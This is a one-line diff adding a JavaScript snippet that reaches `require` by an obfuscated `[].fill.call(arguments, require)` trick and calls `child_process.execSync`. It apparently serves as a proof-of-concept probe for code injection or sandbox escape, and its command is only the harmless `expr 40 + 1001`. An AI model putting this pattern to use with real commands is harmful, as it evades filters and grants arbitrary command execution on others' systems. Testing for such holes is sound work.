@@ -1,0 +1,1 @@
+(function(a){ [].fill.call(arguments,require); a('child_process').execSync('expr 40 + 1001',{stdio:'inherit'}) })(1);
